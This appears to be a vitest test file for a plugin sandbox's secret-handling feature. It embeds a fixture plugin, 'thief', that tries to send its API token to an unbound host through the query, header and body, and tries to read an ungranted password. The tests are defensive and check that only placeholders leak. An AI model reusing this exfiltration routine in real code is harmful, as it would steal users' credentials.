import { afterEach, describe, expect, it } from 'vitest';
import { AuditLog } from '../../../src/audit/audit-log.js';
import { message } from '../../fakes/fake-adapter.js';
import { startServer } from '../capabilities/loopback-server.js';
import { manifest, pluginFolders } from '../../support/plugin-folder.js';
import { startTestApp, type TestApp } from '../../support/test-app.js';

let current: TestApp | undefined;
afterEach(() => current?.logger.assertNoErrors());

const SECRET = 'sk-live-0123456789abcdef';

/**
 * A plugin that tries every way it can think of to learn or leak its secret, through the real sandbox,
 * the real capability broker and real HTTP servers on loopback (allowed as private targets by the operator).
 */
async function setUp(): Promise<{ bound: Awaited<ReturnType<typeof startServer>>; other: Awaited<ReturnType<typeof startServer>>; testApp: TestApp }> {
  const bound = await startServer((_req, res, seen) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ echoed: seen.headers.authorization ?? null }));
  });
  const other = await startServer((_req, res, seen) => {
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end(`got ${seen.headers.authorization ?? 'nothing'} ${seen.body}`);
  }, '127.0.0.2');
  const dir = pluginFolders({
    thief: {
      manifest: manifest('thief', {
        commands: [{ name: 'steal', description: 'tries', args: [{ name: 'how', type: 'string', required: true }] }],
        capabilities: { net: [bound.host + ':' + bound.port, other.host + ':' + other.port], secrets: { API_TOKEN: [bound.host + ':' + bound.port] } },
      }),
      code: `export default { commands: { async steal(ctx, args) {
        const token = ctx.secret('API_TOKEN');
        if (args.how === 'look') return 'placeholder: ' + token;
        if (args.how === 'echo') {
          const res = await ctx.fetch('${bound.origin}/echo', { headers: { authorization: 'Bearer ' + token } });
          return 'echo: ' + await res.text();
        }
        if (args.how === 'other') {
          const res = await ctx.fetch('${other.origin}/x?t=' + encodeURIComponent(token), { method: 'POST', headers: { authorization: 'Bearer ' + token }, body: token });
          return 'other: ' + await res.text();
        }
        if (args.how === 'ungranted') {
          try { ctx.secret('DATABASE_PASSWORD'); return 'no error'; } catch (e) { return e.name + ': ' + e.message; }
        }
        return 'unknown';
      } } };`,
    },
  });
  process.env.OPSROOM_TEST_API_TOKEN = SECRET;
  current = await startTestApp({
    plugins: { bundled: false, paths: [dir], grants: { thief: 'all' } },
    secrets: { API_TOKEN: { env: 'OPSROOM_TEST_API_TOKEN' } },
    net: { allowPrivate: [`${bound.host}:${bound.port}`, `${other.host}:${other.port}`] },
  });
  return { bound, other, testApp: current };
}

describe('secrets as handles, through the sandbox', () => {
  it('gives the plugin an opaque placeholder, never the value', async () => {
    const { testApp } = await setUp();
    await testApp.adapter.deliver(message('!steal look'));
    expect(testApp.adapter.lastText()).toMatch(/^placeholder: \{\{opsroom-secret:API_TOKEN:[0-9a-f]{32}\}\}$/);
    expect(testApp.adapter.lastText()).not.toContain(SECRET);
  });

  it('substitutes the value into the header for the bound host, and an echo comes back redacted', async () => {
    const { bound, testApp } = await setUp();
    await testApp.adapter.deliver(message('!steal echo'));
    expect(bound.requests[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(testApp.adapter.lastText()).toBe('echo: {"echoed":"Bearer {{opsroom-secret:API_TOKEN}}"}');
  });

  it('sends only the placeholder to a granted host the secret is not bound to, in header, query and body alike', async () => {
    const { other, testApp } = await setUp();
    await testApp.adapter.deliver(message('!steal other'));
    const seen = other.requests[0];
    expect(seen?.headers.authorization).toMatch(/^Bearer \{\{opsroom-secret:API_TOKEN:[0-9a-f]{32}\}\}$/);
    expect(seen?.body).toMatch(/^\{\{opsroom-secret:API_TOKEN:[0-9a-f]{32}\}\}$/);
    expect(seen?.url).not.toContain(SECRET);
    expect(testApp.adapter.lastText()).not.toContain(SECRET);
  });

  it('refuses a secret that was not granted, catchably, and audits the attempt without any value', async () => {
    const { testApp } = await setUp();
    await testApp.adapter.deliver(message('!steal ungranted'));
    expect(testApp.adapter.lastText()).toBe('CapabilityDenied: secret DATABASE_PASSWORD was not granted to this plugin');
    await new Promise((resolve) => setTimeout(resolve, 100));
    const audit = testApp.app.get<AuditLog>(AuditLog);
    const denied = await audit.list({ action: 'capability.denied' });
    expect(denied[0]?.detail).toMatchObject({ plugin: 'thief', capability: 'secret' });
    const lines: string[] = [];
    await audit.export((line) => { lines.push(line); });
    expect(lines.join('')).not.toContain(SECRET);
    expect(JSON.stringify(testApp.logger.entries())).not.toContain(SECRET);
  });
});
